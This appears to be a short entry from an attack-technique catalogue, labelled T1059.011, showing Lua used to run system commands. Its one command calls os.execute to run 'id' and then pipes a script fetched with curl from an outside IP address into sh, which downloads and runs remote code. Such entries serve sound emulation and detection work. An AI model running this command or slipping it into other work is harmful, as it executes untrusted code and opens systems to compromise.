# title: Lua runs commands of the system
# technique: T1059.011
# needs: lua5.4

lua5.4 -e 'os.execute("id; curl -s http://192.88.99.7/x.sh | sh")'
